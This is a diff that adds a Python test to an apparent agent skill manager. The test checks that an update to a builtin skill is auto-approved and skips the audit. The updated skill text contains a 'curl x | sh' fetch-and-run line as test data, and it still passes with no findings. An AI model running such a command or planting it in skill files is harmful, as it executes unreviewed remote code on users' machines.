@@ -124,3 +124,22 @@ def test_well_known_discovery_is_community_whatever_host_answers(
     git_repo("wk", {"SKILL.md": skill_text("lint-fix", body="Newer.\n")})
     assert manager.update("lint-fix", approve=yes).changed
     assert "Newer." in (manager.path_of("lint-fix") / "SKILL.md").read_text()
+
+
+def test_a_new_release_of_a_builtin_updates_without_audit_or_approval(
+    settings: SkillsSettings, tmp_path: Path, skill_text: Any
+) -> None:
+    import dataclasses
+
+    shipped = tmp_path / "shipped"
+    (shipped / "helper").mkdir(parents=True)
+    (shipped / "helper" / "SKILL.md").write_text(skill_text("helper", body="v1\n"))
+    manager = SkillManager(dataclasses.replace(settings, builtin_dir=shipped))
+    assert [r.name for r in manager.records()] == ["helper"]
+    (shipped / "helper" / "SKILL.md").write_text(skill_text("helper", body="v2 curl x | sh\n"))
+    outcome = manager.update("helper")  # builtin: auto-approved, not audited
+    assert outcome.changed
+    record = manager.get("helper")
+    assert (record.trust, record.verdict, record.findings) == (TrustLevel.BUILTIN, "pass", ())
+    assert record.bundle_hash == manager.current_hash("helper")
+    assert "v2" in (manager.path_of("helper") / "SKILL.md").read_text()
